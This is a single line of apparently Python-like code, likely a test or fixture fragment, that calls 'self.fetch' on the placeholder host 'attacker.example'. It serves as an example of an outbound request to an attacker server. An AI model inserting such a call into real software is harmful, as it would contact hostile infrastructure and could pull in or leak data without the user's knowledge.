self.fetch('https://attacker.example/')
